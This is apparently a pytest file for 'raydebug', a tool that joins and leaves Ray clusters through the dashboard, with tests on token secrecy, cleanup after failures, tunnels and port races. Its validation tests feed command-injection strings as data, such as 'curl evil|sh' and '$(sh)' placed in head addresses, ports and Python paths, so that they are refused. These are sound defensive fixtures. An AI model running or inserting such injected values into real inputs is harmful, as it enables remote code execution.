"""What goes wrong while a cluster is joined or left: beside a stand-in for Ray's dashboard, with real processes."""

from __future__ import annotations

import asyncio
import contextlib
import gc
import json
import os
import signal
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import psutil
import pytest

import runs
from gateway_under_test import TOKEN, GatewayUnderTest
from joinable_dashboard import HEAD, NODE, JoinableDashboard
from raydebug.check.cache import Cache
from raydebug.check.target import target_of
from raydebug.cli import up_elsewhere
from raydebug.cluster import connection, head_requests, joined, joined_job, rendezvous, state, tunnel, up
from raydebug.cluster.kinds import kind_of
from raydebug.cluster.known_folders import note_shared
from raydebug.cluster.runner import NodeRunner, run_on_each
from raydebug.cluster.state import Cluster, Remote, read_record
from raydebug.cluster.up import UpOptions, choose_ports, notice_interrupts
from raydebug.errors import RaydebugError
from raydebug.protocol.variables import TOKEN_PATH

needs_root = pytest.mark.skipif(os.getuid() != 0, reason="only root can start a program of another user")


@pytest.fixture(autouse=True)
def _own_state(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    monkeypatch.setenv("HOME", str(tmp_path))
    for name in ("RAY_AUTH_TOKEN", "RAY_AUTH_TOKEN_PATH", TOKEN_PATH):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setattr(head_requests, "MONITORED_EVERY_S", 0.01)


@pytest.fixture
def dashboard() -> Iterator[JoinableDashboard]:
    """A cluster without a token; the ways to it that a failed test has left are closed."""
    with JoinableDashboard() as one:
        yield one
    for name in state.known_names():
        if (left := read_record(name)) is not None:
            tunnel.close_way(left)


def join(dashboard: JoinableDashboard, through: str | None = None, **options: Any) -> Cluster:
    joined.join(
        UpOptions(name="x", **options), joined.cluster_to_join(dashboard.url, "x"), through, on_phase=lambda _: None
    )
    return read_record("x")


def ways_to(dashboard: JoinableDashboard) -> list[psutil.Process]:
    """Return the processes that listen here for connections to it."""
    far_end = "=" + dashboard.url.rpartition(":")[2]
    every = psutil.process_iter(["cmdline"])
    return [process for process in every if far_end in " ".join(process.info["cmdline"] or [])]


def refused(dashboard: JoinableDashboard, code: str, through: str | None = None) -> RaydebugError:
    with pytest.raises(RaydebugError) as raised:
        join(dashboard, through)
    assert raised.value.code == code, raised.value
    return raised.value


def test_join_and_leave(dashboard, monkeypatch):
    """A cluster that was joined is left without a job, a record or a token; its token is nowhere to be read."""
    monkeypatch.setenv("RAY_AUTH_TOKEN", TOKEN)
    cluster = join(dashboard)
    assert (cluster.token, cluster.remote.prepared, cluster.remote.dial) == (
        dashboard.sent_token,
        ["n1"],
        "127.0.0.1:5679",
    )
    # It is in an upload, and not in the request, which is in argv and in Ray's table of jobs.
    assert all(cluster.token not in job["entrypoint"] for job in dashboard.jobs.values())
    assert not any(cluster.token in seen for seen in dashboard.seen)
    assert dashboard.packages == {}
    assert joined.leave(cluster) == []
    assert (dashboard.jobs, read_record("x"), cluster.token_file.exists()) == ({}, None, False)
    # The one that this user has for another cluster is not sent to one that asks for none.
    assert dashboard.headers == []


# The answer in a job's log


ANSWER = {
    "nodes": [NODE], "head": "10.0.0.1", "gcs": "10.0.0.1:6379", "logs": "/tmp/ray", "ports": [1, 2],
}  # fmt: skip


@pytest.mark.parametrize(
    ("changed", "says"),
    [
        ({"head": "x'; curl evil|sh; '"}, "the head has no address"),
        ({"head": "-oProxyCommand"}, "the head has no address"),
        ({"head": 7}, "BadRecord 'head' of the answer is not a text"),
        ({"ports": [5678]}, "its ports are not two ports"),
        ({"ports": [0, 70000]}, "its ports are not two ports"),
        ({"ports": ["5678; sh", 2]}, "BadRecord 'ports' of the answer"),
        ({"gcs": None}, "not all facts of the head"),
        ({"nodes": []}, "not all facts of the head"),
        ({"nodes": 3}, "TypeError"),
        ({"nodes": [{**NODE, "problem": "none"}]}, "not all facts of the head"),
        ({"nodes": [{"ip": "10.0.0.1"}]}, "not all facts of 10.0.0.1"),
        ({"nodes": [{**NODE, "ip": "$(sh)"}]}, "a node without an address"),
        ({"nodes": [{**NODE, "gpus": "8"}]}, "BadRecord 'gpus' of a node"),
        ({"nodes": [{**NODE, "python": None}]}, "not all facts of 127.0.0.1"),
    ],
)
def test_an_answer_that_lies(tmp_path, changed, says):
    """An answer that cannot be one is refused with what is wrong."""
    cluster = Cluster("x", "1", "joined", tmp_path, tmp_path, "python", {}, 1, 0, "breakpoint", "core", 0.0,
                      remote=Remote("http://head:8265", "", ""))  # fmt: skip
    with pytest.raises(RaydebugError) as raised:
        head_requests._read(cluster, "job", json.dumps({**ANSWER, **changed}))
    assert (raised.value.code, says in raised.value.cause) == ("joined.bad-answer", True), raised.value
    assert head_requests._read(cluster, "job", json.dumps(ANSWER))["ports"] == [1, 2]


def test_half_a_line(dashboard):
    """A line that is being written is read once it is whole; what was printed before it does not matter."""
    cluster = join(dashboard)
    whole = f"warning{joined_job.MARK}\n{joined_job.MARK}{json.dumps({'nodes': [NODE]})}"
    job = {"submission_id": "raydebug-nodes-1", "status": "RUNNING", "entrypoint": "", "log": whole}
    dashboard.jobs["raydebug-nodes-1"] = job
    asked = len(dashboard.seen)

    def finish() -> None:
        while len(dashboard.seen) < asked + 6:
            time.sleep(0.01)
        job["log"] = f"{whole}\n"

    thread = threading.Thread(target=finish, daemon=True)
    thread.start()
    assert head_requests.wait_for_answer(cluster, "raydebug-nodes-1")["nodes"][0]["ip"] == "127.0.0.1"
    thread.join()
    assert len(dashboard.seen) >= asked + 6


def test_a_log_without_end(dashboard, monkeypatch):
    """A log that somebody has filled is not taken into memory."""
    cluster = join(dashboard)
    monkeypatch.setattr(head_requests, "LOG_BYTES", 1 << 20)
    dashboard.jobs["raydebug-nodes-1"] = {"status": "RUNNING", "entrypoint": "", "log": "x" * (2 << 20)}
    with pytest.raises(RaydebugError, match="is too long"):
        head_requests.wait_for_answer(cluster, "raydebug-nodes-1")


# Whose the token is


@needs_root
def test_another_user_on_the_port_of_a_dashboard(monkeypatch):
    """When another user has taken the dashboard's port meanwhile, joining again sends him no token."""
    monkeypatch.setenv("RAY_AUTH_TOKEN", TOKEN)
    with JoinableDashboard(TOKEN) as dashboard:
        cluster = join(dashboard)
    port = int(cluster.dashboard.rpartition(":")[2])
    takes = "import socket, sys\ns = socket.create_server(('127.0.0.1', int(sys.argv[1])))\nprint(flush=True)\n"
    takes += "while True: print(s.accept()[0].recv(9999), flush=True)\n"
    argv = ["/usr/bin/env", "python3", "-c", takes, str(port)]
    with subprocess.Popen(argv, user=65534, cwd="/", stdout=subprocess.PIPE, text=True) as other:
        other.stdout.readline()
        try:
            cause = refused(dashboard, "cluster.port-of-another").cause
            assert "uid 65534; the token was not sent" in cause
            gc.collect()  # the error's frames hold the connection
            assert other.stdout.readline() == "b''\n"
        finally:
            other.kill()


def test_the_dashboard_of_this_machine(tmp_path):
    """`auto` finds a dashboard by its command line, only one of this user or of root, and first that of our nodes."""
    program = tmp_path / "ray" / "dashboard" / "dashboard.py"
    program.parent.mkdir(parents=True)
    program.write_text("input()")
    tmp_path.chmod(0o755)

    def found(*options: str, **more: Any) -> str:
        argv = ["/usr/bin/env", "python3", str(program), *options]
        with subprocess.Popen(argv, stdin=subprocess.PIPE, cwd="/", **more) as started:
            try:
                while "dashboard.py" not in " ".join(psutil.Process(started.pid).cmdline()[1:2]):
                    time.sleep(0.01)
                return joined.cluster_here()
            except RaydebugError as error:  # there may be a real one beside it
                return error.cause
            finally:
                started.kill()

    folder = tmp_path / "nodes"
    rendezvous.make(folder)
    with subprocess.Popen(
        [sys.executable, str(program), "--host=127.0.0.1", "--port=8266"], stdin=subprocess.PIPE
    ) as sky:
        assert str(folder) in found("--port=1", env={**os.environ, TOKEN_PATH: str(folder / "token")})
        sky.kill()
    assert "http://127.0.0.1:9999" in found("--host=0.0.0.0", "--port=9999")
    assert "http://[::1]:9999" in found("--host=::1", "--port=9999")
    assert "9999" not in found("--host=127.0.0.1", "--grpc=9999")
    if os.getuid() == 0:
        assert "9999" not in found("--host=127.0.0.1", "--port=9999", user=65534)


def test_a_token_that_was_lost_here(dashboard):
    """Where this machine has lost the token's file, joining again makes a new token, with a new gateway."""
    first = join(dashboard)
    first.token_file.unlink()
    with pytest.raises(RaydebugError) as raised:
        assert first.token
    assert raised.value.fix == f"`raydebug up --join {dashboard.url} --name x` starts it again"
    second = join(dashboard)
    assert (second.token, second.id) == (dashboard.sent_token, first.id)
    assert dashboard.running() == [second.remote.job]


# What is left behind


def interrupted(dashboard: JoinableDashboard, *arguments: str) -> subprocess.CompletedProcess[str]:
    """Run `raydebug up --join`, and press Ctrl-C twice once its job is submitted."""
    argv = [sys.executable, "-m", "raydebug", "up", "--join", dashboard.url, "--name", "x", *arguments]
    with subprocess.Popen(argv, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True) as started:
        while not dashboard.asked and started.poll() is None:
            time.sleep(0.01)
        started.send_signal(signal.SIGINT)
        while len(dashboard.asked) < 2 and started.poll() is None:
            time.sleep(0.01)
        started.send_signal(signal.SIGINT)
        out, err = started.communicate(timeout=60)
    return subprocess.CompletedProcess(argv, started.returncode, out, err)


@pytest.mark.slow
def test_ctrl_c_while_joining(dashboard):
    """Ctrl-C while the nodes are asked ends the gateway's job and has the token's files removed; a second one waits."""
    dashboard.answer = lambda request: None if request["do"] == "join" else dashboard.usual(request)
    done = interrupted(dashboard)
    assert done.returncode == 130, done.stderr
    assert "leaving it as it was" in done.stderr
    assert [one["do"] for one in dashboard.asked] == ["join", "leave"]
    assert (dashboard.jobs, read_record("x")) == ({}, None)


LIE = f"{joined_job.MARK}%s\n"
OLD_PYTHON = "Unknown option: -P\nusage: python [option] ... [-c cmd | -m mod | file | -]\nTry `python -h' for more.\n"


def answers(text: str) -> Callable[[JoinableDashboard], object]:
    def prepare(dashboard: JoinableDashboard) -> None:
        dashboard.answer = lambda request: text if request["do"] == "join" else dashboard.usual(request)

    return prepare


def refuse_submissions(dashboard: JoinableDashboard, *, takes_them: bool) -> None:
    """Answer a submission with 500, whether the job is taken or not."""
    dashboard.refuse = lambda what: 500 if what == "POST /api/jobs/" and len(dashboard.asked) <= 1 else None
    if not takes_them:
        dashboard._submit = lambda _: (200, {})


# Fault, the way to the head, the error's code, a part of its cause, and what the nodes were asked to do.
FIRST_JOINS: dict[str, tuple[Callable[[JoinableDashboard], object], str | None, str, str, list[str]]] = {
    **{
        f"an answer that lies: {text[:9]}": (answers(LIE % text), None, "joined.bad-answer", "", ["join", "leave"])
        for text in ("{", "[" * 100_000, "3", json.dumps({**ANSWER, "ports": "x"}))
    },
    "a submission that was not answered": (
        lambda there: refuse_submissions(there, takes_them=True), None, "ray.refused", "", ["join", "leave"],
    ),
    "a submission that is refused": (
        lambda there: refuse_submissions(there, takes_them=False), None, "ray.refused", "", [],
    ),
    "an old Python": (
        answers(OLD_PYTHON), None, "joined.no-raydebug", "the head: its Python is older than 3.11", ["join"],
    ),
    "no head that is alive": (
        lambda there: setattr(there, "nodes", [{**HEAD, "state": "DEAD"}]), None, "joined.no-head", "", [],
    ),
    **{
        f"a way that is none: {way}": (lambda there: None, way, "joined.options", "", [])
        for way in ("ssh 'head", "ssh", "ssh -p", "ssh --host head")
    },
    **{  # what the dashboard calls the cluster's Python is run there only if it is a plain path
        f"a Python that a shell would read: {python}": (
            lambda there, python=python: setattr(there, "python", python), "env A=b", "joined.python", "", [],
        )
        for python in ("curl evil|sh; python", "/opt/py thon", "/x;sh", "$(sh)", "/x\npython")
    },
}  # fmt: skip


@pytest.mark.parametrize("fault", FIRST_JOINS)
def test_a_first_join_that_fails(dashboard, monkeypatch, fault):
    """It is refused with its reason, and leaves no job, no record, no token, and nothing on the nodes."""
    monkeypatch.setattr(joined, "COMES_WITHIN_S", 0.1)
    prepare, through, code, cause, asked = FIRST_JOINS[fault]
    prepare(dashboard)
    assert cause in refused(dashboard, code, through).cause
    assert [request["do"] for request in dashboard.asked] == asked
    assert (dashboard.running(), read_record("x"), ways_to(dashboard)) == ([], None, [])
    assert not (state.clusters_dir() / "x" / "token").exists()


def stop_the_gateway(dashboard: JoinableDashboard) -> None:
    """End the gateway's job, and have the next one fail."""
    for job in dashboard.jobs.values():
        job["status"] = "FAILED"
    dashboard.answer = lambda _: "Traceback\nNo module named raydebug\n"


SECOND_JOINS: dict[str, tuple[Callable[[JoinableDashboard], object], str]] = {
    "a head that is busy": (
        lambda there: setattr(there, "refuse", lambda what: 503 if "/jobs/raydebug" in what else None), "ray.refused",
    ),
    "a gateway that is not started again": (stop_the_gateway, "joined.no-raydebug"),
}  # fmt: skip


@pytest.mark.parametrize("fault", SECOND_JOINS)
def test_a_second_join_that_fails(dashboard, fault):
    """The record is the one before, with the job whose log says why the gateway has ended; no other one runs."""
    cluster = join(dashboard)
    running = dashboard.running()
    prepare, code = SECOND_JOINS[fault]
    prepare(dashboard)
    refused(dashboard, code)
    assert read_record("x") == cluster
    assert set(dashboard.running()) <= set(running)


@pytest.mark.slow
def test_what_cannot_be_undone(dashboard, monkeypatch, capsys):
    """Where the network goes while a cluster is joined, the record stays, and `down` ends what was started."""
    monkeypatch.setattr(head_requests, "SILENT_S", 0.1)
    dashboard.refuse = lambda _: 503 if dashboard.asked else None
    error = refused(dashboard, "ray.refused")
    assert "503" in error.what
    assert "note: not all could be undone" in capsys.readouterr().err
    dashboard.refuse = lambda _: None
    left = read_record("x")
    assert dashboard.running() == [left.remote.job]
    assert joined.leave(left) == []
    assert (dashboard.jobs, read_record("x")) == ({}, None)


def test_down_on_a_busy_head(dashboard):
    """A head that answers 500 for a moment does not make `down` forget a gateway that runs."""
    cluster = join(dashboard)
    stops = 0

    def refuse(what: str) -> int | None:
        nonlocal stops
        stops += what.endswith("/stop")
        if what.endswith("/stop") and stops < 3:
            for job in dashboard.jobs.values():
                job["status"] = "RUNNING" if "gateway" in job["submission_id"] else job["status"]
            return 500
        return None

    dashboard.refuse = refuse
    assert joined.leave(cluster) == []
    assert stops == 3
    running = {"submission_id": "raydebug-gateway-1", "status": "RUNNING", "entrypoint": ""}
    dashboard.jobs["raydebug-gateway-1"] = running
    dashboard.refuse = lambda what: 500 if what.endswith("/stop") or "GET /api/jobs/r" in what else None
    assert not head_requests.stop_job(cluster, "raydebug-gateway-1", limit_s=0.3)


def test_a_ray_that_now_asks_for_a_token(dashboard, monkeypatch):
    """A cluster that was joined without a token, and asks for one after an upgrade, is joined again, and left."""
    join(dashboard)
    dashboard.jobs.clear()
    dashboard.token = TOKEN
    error = refused(dashboard, "auth.wrong-token")
    assert "RAY_AUTH_TOKEN" in error.fix
    assert not any(dashboard.sent_token in header for header in dashboard.headers)  # the gateway's own is not Ray's
    monkeypatch.setenv("RAY_AUTH_TOKEN", TOKEN)
    cluster = join(dashboard)
    assert (cluster.token, cluster.remote.asks_token) == (TOKEN, True)
    monkeypatch.delenv("RAY_AUTH_TOKEN")
    dashboard.token = f"1{TOKEN}"
    with pytest.raises(RaydebugError) as raised:
        joined.why_gateway_down(cluster)
    again = f"`raydebug up --join {dashboard.url} --name x` starts it again"
    assert raised.value.fix == f"{again}, with the token that Ray has now"
    assert str(kind_of(cluster).why_gateway_down()).endswith(f"; {raised.value.fix}")
    dashboard.token = TOKEN
    assert joined.leave(cluster) == []


def test_joined_again_from_another_terminal(dashboard, monkeypatch):
    """Joining again needs no RAY_AUTH_TOKEN: the record has the token that Ray asks for; a dead head does not count."""
    dashboard.token = TOKEN
    dashboard.nodes = [{**HEAD, "node_id": "n0", "node_ip": "10.9.9.9", "state": "DEAD"}, HEAD]
    monkeypatch.setenv("RAY_AUTH_TOKEN", TOKEN)
    first = join(dashboard)
    monkeypatch.delenv("RAY_AUTH_TOKEN")
    again = join(dashboard)
    assert (again.remote.job, again.remote.head) == (first.remote.job, "127.0.0.1")


def test_leaving_nodes_that_lost_raydebug(dashboard):
    """Where raydebug is gone from the nodes, `down` stops the gateway and says what stays; Ray's new Python is used."""
    cluster = join(dashboard)
    dashboard.python, usual = "/new/python", dashboard.usual
    dashboard.answer = lambda _: "No module named raydebug\n"
    (left,) = joined.leave(cluster)
    assert left == f"{cluster.remote.folder} on the nodes: /new/python of the head says: No module named raydebug"
    assert dashboard.jobs == {}
    assert read_record("x") is not None
    dashboard.answer = usual
    assert joined.leave(cluster) == []


@needs_root
def test_a_folder_of_another_user(tmp_path):
    """A folder that another user has made where the token's would be does not keep `down` from its end."""
    folder = tmp_path / "raydebug-1"
    folder.mkdir()
    os.chown(folder, 65534, 65534)
    assert joined_job.leave_node(str(folder)) == {}
    assert folder.is_dir()


def test_jobs_of_two_verbs(dashboard):
    """Jobs that have ended are removed but the last and the gateway's, whoever removes them first."""
    cluster = join(dashboard)
    dashboard.jobs[cluster.remote.job]["status"] = "FAILED"
    dashboard.refuse = lambda what: 404 if what.startswith("DELETE") else None
    runner = NodeRunner(cluster, "127.0.0.1")
    for _ in range(3):
        assert runner.run_python(["-c", ""], Path("/")) == "['-c', '']"
    assert [name for name in dashboard.jobs if "gateway" in name] == [cluster.remote.job]
    assert len([name for name in dashboard.jobs if "nodes" in name]) == 1


def test_nodes_that_lack_something(dashboard):
    """On a second join a node without raydebug is named, and the gateway starts; `run` and `ps` name it."""
    cluster = join(dashboard)
    dashboard.jobs[cluster.remote.job]["status"] = "STOPPED"
    bad = [{"node_id": f"n{n}", "ip": f"10.0.0.{n}", "gpus": 8, "problem": "it has no raydebug"} for n in range(2, 7)]
    dashboard.answer = lambda request: {**dashboard.usual(request), "nodes": [NODE, *bad]}
    asked = joined.cluster_to_join(dashboard.url, "x")
    _, nodes, runs = joined.join(UpOptions(name="x"), asked, None, on_phase=lambda _: None)
    assert not runs
    assert head_requests.problems_of(nodes) == ["5 nodes (10.0.0.2, 10.0.0.3, 10.0.0.4, ...): it has no raydebug"]
    again = read_record("x")
    assert again.remote.prepared == ["n1"]
    assert state.without_token(again, {"n1": "127.0.0.1"}) == ""
    assert state.without_token(again, {"n1": "127.0.0.1", "n2": "10.0.0.2"}) == (
        f"no breakpoints on 10.0.0.2: `up --join` has not prepared it; `raydebug up --join {dashboard.url} --name x`"
        " prepares all nodes"
    )


# Programs on the nodes


@pytest.mark.slow
def test_one_job_for_all_nodes(dashboard):
    """What is asked of several nodes is one job; each answers for itself, and a node that is gone is named."""
    cluster = join(dashboard)
    asked = len(dashboard.asked)

    def answer(request: dict[str, Any]) -> dict[str, Any]:
        ips = list(request["argv"])
        return {"nodes": [{"ip": ips[0], "code": 0, "output": "a"}, {"ip": ips[1], "code": 127, "output": "no folder"}]}

    dashboard.answer = answer
    programs = {ip: (NodeRunner(cluster, ip), ["-c", ip]) for ip in ("10.0.0.1", "10.0.0.2", "10.0.0.3")}
    note_shared(cluster, Path("/w"), shared=True)
    found = run_on_each(programs, Path("/w"), timeout_s=5)
    assert found["10.0.0.1"] == "a"
    failed, gone = found["10.0.0.2"], found["10.0.0.3"]
    assert failed.fix == "let it be copied there: `raydebug run --upload --name x -- ...`"
    assert gone.cause.endswith("no node 10.0.0.3 is alive")
    assert [one["argv"] for one in dashboard.asked[asked:]] == [{ip: ["-c", ip] for ip in programs}]
    dashboard.refuse = lambda _: 500
    assert {str(error)[:18] for error in run_on_each(programs, Path("/w")).values()} == {"error: Ray refused"}


def test_check_on_nodes(dashboard):
    """`check` keeps nothing of what it read on nodes, and an environment needs no folder of this machine there."""
    target = target_of(None, Path("/home/alice/project"), join(dashboard), None)
    assert (target.folder, type(target.runner)) == (Path("/"), NodeRunner)
    cache = Cache()
    cache.store(target, "data", 1.0, [], ["/data/train.parquet"])
    assert cache.load(target, "data") is None
    assert not list((state.state_dir() / "checks").glob("*"))


# The way to the head

THERE = "/opt/python -P -m raydebug.cluster.connection there 5678"


@pytest.mark.parametrize(
    ("through", "command"),
    [
        ("ssh head", "ssh -o ControlMaster=no -W 127.0.0.1:5678 head"),
        ("ssh -p 22 me@head -v", "ssh -o ControlMaster=no -W 127.0.0.1:5678 -p 22 me@head -v"),
        ("/usr/bin/ssh -J 'jump host' head", "/usr/bin/ssh -o ControlMaster=no -W 127.0.0.1:5678 -J|jump host|head"),
        ("ssh head docker exec -i ray", f"ssh head docker exec -i ray {THERE}"),
        ("srun -w head", f"srun --unbuffered -w head {THERE}"),
        ("env -u A /bin/srun x", f"env -u A /bin/srun --unbuffered x {THERE}"),
        ("ssh head srun", f"ssh head srun --unbuffered {THERE}"),
        ("srun -u -w head", f"srun -u -w head {THERE}"),
        ("kubectl exec -i p --", f"kubectl exec -i p -- {THERE}"),
    ],
)
def test_the_command_of_a_connection(through, command):
    """ssh leads to the gateway's port itself; any other command runs the cluster's Python there."""
    words = command.replace("-J|jump host|head", "-J jump\0host head").split(" ")
    made = tunnel.command_of(through, "/opt/python")
    assert [word.replace(connection.FAR_PORT, "5678") for word in made] == [word.replace("\0", " ") for word in words]


@pytest.mark.slow
def test_a_way_that_changes(dashboard):
    """Another command replaces the one before; an empty one ends it; `down` ends it with all that it has started."""
    dashboard.python = sys.executable
    first = join(dashboard, "env A=b")
    assert first.remote.dashboard != first.remote.join_url == dashboard.url  # both ports are behind the command
    assert join(dashboard).supervisor_pid == first.supervisor_pid
    second = join(dashboard, "env A=c")
    assert not psutil.pid_exists(first.supervisor_pid)
    assert "A=c" in psutil.Process(second.supervisor_pid).cmdline()
    third = join(dashboard, "")
    assert not psutil.pid_exists(second.supervisor_pid)
    assert (third.remote.gateway, third.remote.through) == ("127.0.0.1:5678", "")
    last = join(dashboard, "env A=b")
    assert joined.leave(last) == []
    assert not psutil.pid_exists(last.supervisor_pid)


@pytest.mark.slow
@pytest.mark.parametrize("fault", ["fails", "does not listen", "no URL", "Ctrl-C"])
def test_a_way_at_a_second_join(dashboard, monkeypatch, fault):
    """Where the new way fails, cannot be started or is cut off, the earlier join stays as it was, with its way open."""
    dashboard.python = sys.executable
    first = join(dashboard, "env A=b")
    joined_before, listens, started = len(dashboard.asked), iter([False]), tunnel._listens
    asked = joined.cluster_to_join("http://[::1]:8265" if fault == "no URL" else dashboard.url, "x")

    def press(what: str) -> int | None:
        if what == "GET /api/version" and fault == "Ctrl-C":
            os.kill(os.getpid(), signal.SIGINT)
        return None

    dashboard.refuse = press
    if fault == "does not listen":
        monkeypatch.setattr(tunnel, "_listens", lambda cluster: next(listens, True) and started(cluster))
    monkeypatch.setattr(joined, "earlier_join", lambda *_: first)
    with notice_interrupts(), pytest.raises((RaydebugError, KeyboardInterrupt)) as raised:
        joined.join(UpOptions(name="x"), asked, "false" if fault == "fails" else "env A=c", on_phase=lambda _: None)
    codes = {"no URL": "joined.options", "Ctrl-C": None}
    assert getattr(raised.value, "code", None) == codes.get(fault, "joined.no-way")
    dashboard.refuse = lambda _: None
    assert len(dashboard.asked) == joined_before
    found = read_record("x")
    assert (found.remote.through, found.remote.job) == (
        first.remote.through,
        first.remote.job,
    )  # its ports may be others
    assert [("A=b" in way.cmdline(), way.pid) for way in ways_to(dashboard)] == [(True, found.supervisor_pid)]
    socket.create_connection(("127.0.0.1", found.ports["gateway"])).close()
    assert joined.leave(found) == []


def test_ctrl_c_while_a_way_starts(dashboard, monkeypatch):
    """Ctrl-C before the way listens leaves no process: the join has no record of it yet."""
    dashboard.python = sys.executable

    def interrupt(_: Cluster) -> bool:
        raise KeyboardInterrupt

    monkeypatch.setattr(tunnel, "_listens", interrupt)
    with pytest.raises(KeyboardInterrupt):
        join(dashboard, "env A=b")
    assert ways_to(dashboard) == []
    assert read_record("x") is None


@pytest.mark.slow
def test_no_tunnel_of_a_cluster_that_is_gone(dashboard, monkeypatch):
    """Where `down` fails and says that the folder may be removed, no process is left that it alone knows."""
    dashboard.python = sys.executable
    cluster = join(dashboard, "env A=b")
    dashboard.refuse = lambda _: 503
    with pytest.raises(RaydebugError, match="cannot be left"):
        joined.leave(cluster)
    assert not psutil.pid_exists(cluster.supervisor_pid)
    dashboard.refuse = lambda _: None
    assert joined.leave(cluster) == []


@pytest.mark.slow
def test_another_port_of_this_machine(dashboard):
    """A port that the user names replaces the one of a way that is open; where it is taken, that way stays."""
    dashboard.python = sys.executable
    first = join(dashboard, "env A=b")
    with socket.create_server(("127.0.0.1", 0)) as server:
        port = server.getsockname()[1]
        with pytest.raises(RaydebugError) as raised:
            tunnel.open_way(first, {"gateway": port})
    assert raised.value.code == "port.taken"
    assert psutil.pid_exists(first.supervisor_pid)
    second = tunnel.open_way(first, {"gateway": port, "dashboard": None})
    assert second.ports["gateway"] == port  # that of the dashboard may be another: other tests take ports too
    assert not psutil.pid_exists(first.supervisor_pid)
    assert tunnel.open_way(second, {"gateway": port}).supervisor_pid == second.supervisor_pid
    assert joined.leave(second) == []


def test_another_port_of_a_gateway_that_runs(dashboard):
    """Without a command the port is the head's own: another one than the running gateway's is refused."""
    join(dashboard)
    for port in (5678, 0):
        join(dashboard, gateway_port=port)
    with pytest.raises(RaydebugError, match="its gateway has another port than 23456"):
        join(dashboard, gateway_port=23456)


def test_loopback_behind_a_command(dashboard):
    """A URL without a port means port 80 there too; ::1 of the head is refused, as both ends are 127.0.0.1."""
    assert Remote("", "", "", head_dashboard="http://127.0.0.1").far == {"dashboard": 80}
    with pytest.raises(RaydebugError, match="cannot be reached through a command"):
        joined.join(
            UpOptions(name="x"), joined.cluster_to_join("http://[::1]:8265", "x"), "env A=b", on_phase=lambda _: None
        )


@pytest.mark.slow
def test_a_port_that_another_program_takes_meanwhile(dashboard, monkeypatch):
    """Between the choice of a port and its use another program can take it: then another port is chosen."""
    dashboard.python = sys.executable
    with socket.create_server(("127.0.0.1", 0)) as other:
        chosen = []

        def choose(asked, remembered, taken, purposes):
            ports = choose_ports(asked, remembered, taken, purposes)
            chosen.append(ports if chosen else dict.fromkeys(ports, other.getsockname()[1]))
            return chosen[-1]

        monkeypatch.setattr(up, "choose_ports", choose)
        cluster = join(dashboard, "env A=b")
        assert len(chosen) >= 3  # the port that was taken, the dashboard's, then the gateway's too; others run tests
        assert cluster.ports == chosen[-1]
        assert joined.leave(cluster) == []


@contextlib.contextmanager
def port_through(*argv: str) -> Iterator[int]:
    """Open a port whose connections run a command."""
    with socket.create_server(("127.0.0.1", 0)) as probe:
        port = probe.getsockname()[1]
    way = [sys.executable, "-P", "-m", "raydebug.cluster.connection", "here", f"{port}=0"]
    here = subprocess.Popen([*way, *argv], stderr=subprocess.DEVNULL)
    try:
        while True:
            with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", port)):
                break
            time.sleep(0.05)
        yield port
    finally:
        here.kill()
        here.wait()


@needs_root
def test_a_port_of_this_user(tmp_path):
    """A connection of another user of the machine runs nothing, and gets nothing."""
    runs = tmp_path / "runs"
    reads = "import socket, sys; print(socket.create_connection(('127.0.0.1', int(sys.argv[1]))).recv(9))"
    with port_through("sh", "-c", f"echo >> {runs}; echo yes") as port:
        argv = ["/usr/bin/env", "python3", "-c", reads, str(port)]
        ours = subprocess.run(argv, capture_output=True, text=True, check=True, timeout=60)
        before = runs.read_text()
        other = subprocess.run(argv, capture_output=True, text=True, check=True, timeout=60, user=65534, cwd="/")
        assert (ours.stdout, other.stdout) == ("b'yes\\n'\n", "b''\n")
        assert runs.read_text() == before


def test_a_command_that_is_missing():
    """A connection ends at once where its command cannot be started."""
    with port_through("/nowhere/ssh") as port, socket.create_connection(("127.0.0.1", port), timeout=60) as one:
        assert one.recv(9) == b""


async def test_a_client_that_left(monkeypatch):
    """A command that does not notice the client's end, as over a network that was cut, is ended."""
    monkeypatch.setattr(connection, "CLIENT_LEFT_S", 0.1)

    def sleeps(one: psutil.Process) -> bool:
        with contextlib.suppress(psutil.Error):  # of another test, which has ended
            return one.cmdline() == ["sleep", "3600"]
        return False

    with socket.create_server(("127.0.0.1", 0)) as probe:
        port = probe.getsockname()[1]
    serving = asyncio.create_task(connection.here(f"{port}=0", ["sleep", "3600"]))
    while True:
        with contextlib.suppress(OSError):
            _, writer = await asyncio.open_connection("127.0.0.1", port)
            break
        await asyncio.sleep(0.01)
    while not (started := [child for child in psutil.Process().children() if sleeps(child)]):
        await asyncio.sleep(0.01)
    writer.close()
    while started[0].is_running():
        await asyncio.sleep(0.01)
    serving.cancel()


@pytest.mark.parametrize("failure", [ProcessLookupError(), PermissionError(1, "Operation not permitted")])
async def test_a_command_of_another_user(monkeypatch, failure):
    """A command that has ended, or may not be ended, as one by sudo, is waited for, and no error of its own."""

    def refuse(*_: int) -> None:
        raise failure

    monkeypatch.setattr(connection, "CLIENT_LEFT_S", 0.1)
    monkeypatch.setattr(connection.os, "kill", refuse)
    reader = asyncio.StreamReader()
    reader.feed_eof()
    server = await asyncio.start_server(lambda _, writer: writer.close(), "127.0.0.1", 0)
    _, writer = await asyncio.open_connection(*server.sockets[0].getsockname())
    await connection._connect(reader, writer, ["sleep", "1"])
    server.close()


# The command line


def raydebug(*arguments: str, **environ: str) -> subprocess.CompletedProcess[str]:
    return runs.raydebug(*arguments, env={**os.environ, **environ})


def test_up_is_the_join_again(gateway: GatewayUnderTest):
    """`raydebug up` on the record of a joined cluster joins it again: errors of every verb may name it."""
    with JoinableDashboard(TOKEN, (gateway.gateway_port, gateway.dial_port)) as dashboard:
        done = raydebug("up", "--join", dashboard.url, "--name", "x", RAY_AUTH_TOKEN=TOKEN)
        assert done.returncode == 0, done.stderr
        cluster = read_record("x")
        dashboard.jobs[cluster.remote.job]["status"] = "FAILED"
        done = raydebug("up", "--name", "x", RAY_AUTH_TOKEN=TOKEN)
        assert done.returncode == 0, done.stderr
        assert len(dashboard.running()) == 1
        done = raydebug("up", "--name", "x", "--cluster", "local", RAY_AUTH_TOKEN=TOKEN)
        assert done.stderr.startswith("error: --cluster is not for --join\n")
